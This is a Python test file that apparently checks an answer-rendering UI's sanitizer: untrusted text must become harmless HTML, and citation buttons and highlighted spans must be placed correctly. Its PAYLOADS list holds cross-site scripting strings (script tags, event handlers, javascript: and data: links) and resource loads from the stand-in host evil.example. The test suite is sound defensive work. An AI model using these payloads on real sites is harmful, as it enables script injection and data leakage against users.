"""Untrusted text becomes harmless HTML, and citations land where they belong."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.backend.types import Citation, Passage
from app.ui import markup

PASSAGES = tuple(Passage(f"p{n}", f"Title {n}", "The passage's own text.", 1.0, "shelf") for n in range(1, 4))
TAGS = "p br hr h1 h2 h3 h4 h5 h6 strong em s code pre blockquote ul ol li table thead tbody tr th td a span div button"
ALLOWED_TAGS = set(re.findall(r"\w+", TAGS))
ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "ol": {"start"},
    "code": {"class"},
    "span": {"class"},
    "div": {"class"},
    "button": {"type", "class", "data-testid", "data-n", "data-c", "aria-label", "title"},
}
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "![pixel](https://evil.example/p.png)",
    '![a"onerror="alert(1)](https://evil.example/p.png "t\'onload=1")',
    "![ref]\n\n[ref]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click]\n\n[click]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><use href='https://evil.example/x.svg#a'/></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<video src=https://evil.example/v poster=https://evil.example/p></video>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onclick="alert(1)\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
    "\\(<img src=x onerror=alert(1)>\\)",
    '$$\n<script>alert(1)</script>\n$$ (label" onload=1)',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- --><!--><img src=x onerror=alert(1)>-->",
    "\ue101\ue000\ue800<script>alert(1)</script>",
    "[1](https://evil.example '\ue101')",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
)


class Audit(HTMLParser):
    """Collects what a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES.get(tag, ()):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not re.match(r"https?://|mailto:", value or ""):
                self.wrong.append(f"href {value}")

    def handle_data(self, data: str) -> None:
        self.text += data


def audit(html: str) -> Audit:
    found = Audit()
    found.feed(html)
    found.close()
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_hostile_text_in_an_answer_is_inert(payload: str, lang: str) -> None:
    citations = (Citation(1, "p1", ((0, 3),), (0, len(payload)), "alignment"), Citation(2, "p2", (), (0, 5), "model"))
    hostile = tuple(Passage(payload, payload, payload, 1.0, payload) for _ in range(3))
    for html in (markup.answer(payload + " [2]", hostile, citations, lang), markup.draft(payload, hostile, lang)):
        assert audit(html).wrong == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_passages_titles_and_snippets_are_text(payload: str) -> None:
    html = str(markup.passage(payload, [(0, (0, 5)), (1, (3, 400))]))
    marked = audit(re.sub(r'<(/?)mark(?: data-c="[0-9 ]+")?>', r"<\1em>", html))
    assert marked.wrong == []
    assert marked.text == markup.clean(payload)
    assert audit(str(markup.snippet(f"\x02{payload}\x03")).replace("mark>", "em>")).wrong == []


@settings(deadline=None)
@given(st.text(max_size=300))
def test_no_text_makes_anything_but_harmless_html(text: str) -> None:
    citations = (Citation(1, "p1", ((0, 3),), (0, len(text)), "alignment"),)
    assert audit(markup.answer(text, PASSAGES, citations, "en")).wrong == []


def test_links_open_elsewhere_and_tell_nobody_where_from() -> None:
    html = markup.answer("[a](https://example.org)", (), (), "en")
    assert 'target="_blank"' in html
    assert re.search(r'rel="[^"]*noopener[^"]*nofollow', html)


def test_bidirectional_overrides_are_taken_out() -> None:
    assert "\u202e" not in markup.answer("abc \u202egpj.exe", (), (), "en")
    assert "\u202e" not in markup.passage("abc \u202egpj.exe", ())


def test_markers_of_the_model_become_buttons_only_for_passages_that_exist() -> None:
    html = markup.answer("One [1]. Two [2, 3]. Nine [9]. Code `[1]`. Wide 【2】. Both [1, 9].", PASSAGES, (), "en")
    assert re.findall(r'data-n="(\d)"', html) == ["1", "2", "3", "2", "1"]
    assert "[9]" in html
    assert "[1, 9]" not in html
    assert "<code>[1]</code>" in html


def test_a_marker_leads_to_the_citation_at_its_place() -> None:
    citations = (Citation(1, "p1", ((0, 1),), (0, 8), "model"), Citation(1, "p1", ((4, 6),), (9, 17), "model"))
    html = markup.answer("One [1]. Two [1].", PASSAGES, citations, "en")
    assert re.findall(r'data-c="(\d)"', html) == ["0", "1"]


@pytest.mark.parametrize(
    "text",
    [
        "A plain sentence. Another.",
        "**A bold sentence.** Another.",
        "_An emphatic sentence._ Another.",
        "- A sentence in a list.\n- Another.",
        "| a | b |\n|---|---|\n| A sentence. | Another. |",
        "# A heading.\n\nAnother.",
        "> A quoted sentence.\n> Another.",
        "```python\nx = 1\n```\n\nAnother.",
        "1. First.\n\n   Continued here.\n2. Another.",
        "Line one\nline two. Another.",
        "句子一。句子二。",
    ],
)
def test_every_aligned_sentence_gets_one_button_and_markdown_stays_as_it_is(text: str) -> None:
    bare = str(markup.answer(text, PASSAGES, (), "en"))
    starts = [0, *(m.end() for m in re.finditer(r"\s|。", text))]
    ends = [*(m.start() for m in re.finditer(r"\s", text)), *(m.end() for m in re.finditer("。", text)), len(text)]
    for start, end in product(starts, ends):
        html = str(markup.answer(text, PASSAGES, (Citation(2, "p2", (), (start, end), "alignment"),), "en"))
        html, buttons = re.subn(r"<button.*?</button>", "", html)
        assert buttons == 1
        assert re.findall(r"<(?!/|span)(\w+)", html) == re.findall(r"<(?!/|span)(\w+)", bare)
        assert audit(html).text == audit(bare).text


def test_supported_sentences_look_different_from_the_models_own_citations() -> None:
    citations = (Citation(2, "p2", (), (9, 23), "alignment"),)
    html = markup.answer("One [1]. Two is so here.", PASSAGES, citations, "en")
    assert 'class="cite" data-testid="citation" data-n="1"' in html
    assert 'class="cite aligned" data-testid="citation" data-n="2"' in html
    assert "Supported by source 2: Title 2" in html


def test_spans_of_a_passage_are_marked_with_all_their_citations() -> None:
    html = markup.passage("hello world", [(0, (0, 5)), (1, (3, 8))])
    assert html == '<mark data-c="0">hel</mark><mark data-c="0 1">lo</mark><mark data-c="1"> wo</mark>rld'


def test_code_is_highlighted_and_maths_is_shown_as_text() -> None:
    html = markup.answer("```python\ndef f(): pass\n```\n\n\\(a_1 < b_2\\) costs $5 or $6", (), (), "en")
    assert '<span class="k">def</span>' in html
    assert '<span class="math">a_1 &lt; b_2</span>' in html
    assert "$5 or $6" in html
